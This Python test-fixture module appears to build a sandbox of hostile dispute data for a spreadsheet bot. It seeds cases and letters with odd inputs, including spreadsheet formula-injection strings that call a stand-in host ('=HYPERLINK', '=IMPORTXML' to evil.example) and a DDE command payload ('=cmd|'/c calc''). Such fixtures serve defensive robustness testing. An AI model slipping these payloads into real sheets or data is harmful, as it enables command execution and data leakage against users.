"""
What real platforms send and nobody expects: formulas as names, emoji, unknown codes, holes.

Applied to cases when they are opened, and to letters and reviews when they are written.
``little`` marks three cases of a season with what changes no figure, and one letter in
a hundred; ``full`` marks every case and a third of the letters; ``none`` is a clean world.
"""

from collections.abc import Callable, Sequence
from dataclasses import replace
from typing import TypeVar

from sheets_bot.sandbox.world.case import Case, Message
from sheets_bot.sandbox.world.dice import dice

T = TypeVar("T")

HOSTILITIES = ("none", "little", "full")

FORMULA_NAMES = (
    '=HYPERLINK("https://evil.example","click")',
    "+1 555 0100",
    "-Ana",
    "@SUM(A1:A9)",
    "'quoted",
    "\t=1+1",
)


def _formula_name(case: Case) -> None:
    names = dice(case.dispute_id, "odd name")
    case.order = replace(case.order, buyer=replace(case.order.buyer, given_name=names.choice(FORMULA_NAMES)))


def _emoji_and_controls(case: Case) -> None:
    text = "😡📦 не пришло — 还没到 \u202eesrever\u202c\x07\x0b end"
    case.messages.append(Message("BUYER", case.opened_at, text))


def _long_message(case: Case) -> None:
    case.messages.append(Message("BUYER", case.opened_at, ("=cmd|'/c calc'!A1 " * 120)[:2000]))


def _odd_invoice(case: Case) -> None:
    case.disguise["invoice_number"] = f"#{case.order.number}.1_a b"


def _no_items(case: Case) -> None:
    case.disguise["items"] = []


def _holes(case: Case) -> None:
    for name in ("extensions", "dispute_channel", "invoice_number", "custom", "buyer"):
        case.disguise[name] = None


def _unknown_reason(case: Case) -> None:
    case.disguise["reason"] = "PRICE_PROMISE_NOT_KEPT"


def _unknown_status(case: Case) -> None:
    case.disguise["status"] = "WAITING_FOR_CARRIER"
    case.disguise["dispute_state"] = "REQUIRED_CARRIER_ACTION"


def _unknown_outcome(case: Case) -> None:
    case.disguise["outcome_code"] = "RESOLVED_BY_LOTTERY"


Oddity = Callable[[Case], None]

HARMLESS: tuple[Oddity, ...] = (
    _formula_name,
    _emoji_and_controls,
    _long_message,
    _odd_invoice,
    _no_items,
)
"""Odd to read, but no figure changes."""

ALL: tuple[Oddity, ...] = (*HARMLESS, _holes, _unknown_reason, _unknown_status, _unknown_outcome)

LITTLE_AT: dict[int, tuple[Oddity, ...]] = {
    9: (_formula_name, _odd_invoice, _no_items),
    23: (_emoji_and_controls, _long_message),
}
"""Which cases of a season are odd, counted from the first, when the world is a little hostile."""


def make_odd(case: Case, place: int, hostility: str) -> None:
    """Apply to *case*, the *place*-th of the world, what the hostility wants."""
    if hostility == "little":
        for spoil in LITTLE_AT.get(place, ()):
            spoil(case)
        if case.neglected and case.reason == "OTHER":
            _unknown_reason(case)
    elif hostility == "full":
        throw = dice(case.dispute_id, "oddities")
        for spoil in throw.sample(ALL, throw.choice((1, 2, 3))):
            spoil(case)


ODD_SUBJECTS = (
    '=IMPORTXML("https://evil.example","//a")',
    "+49 please call me",
    "-- no subject --",
    "@everyone where is my order",
    "Où est ma commande 😡\u202e!won\u202c",
    "\tRe: Re: RE: AW: Fwd: order",
    "",
    "Order " * 60,
)

ODD_REFERENCES = (
    ("no-brackets@mail.example",),
    ("<>", "<@>"),
    ("<a b@mail.example>",),
    tuple(f"<{place:04d}@mail.example>" for place in range(60)),
)

ODD_SHARES = {"none": 0.0, "little": 0.012, "full": 0.33}
"""Of letters and authors, those with which something is odd, by hostility."""


def odd_subject(subject: str, name: str, hostility: str) -> str:
    """Return *subject*, or an odd one; *name* names the letter."""
    return _or_odd(subject, ODD_SUBJECTS, hostility, name, "odd subject")


def odd_name(shown_name: str, name: str, hostility: str) -> str:
    """Return *shown_name*, or an odd one; *name* names the letter or the review."""
    return _or_odd(shown_name, FORMULA_NAMES, hostility, name, "odd author")


def odd_references(references: tuple[str, ...], name: str, hostility: str) -> tuple[str, ...]:
    """Return *references*, or odd ones; *name* names the letter."""
    return _or_odd(references, ODD_REFERENCES, hostility, name, "odd references")


def _or_odd(usual: T, odd: Sequence[T], hostility: str, *names: str) -> T:
    share = ODD_SHARES[hostility]
    if not share:
        return usual
    throw = dice(*names)
    return throw.choice(odd) if throw.random() < share else usual
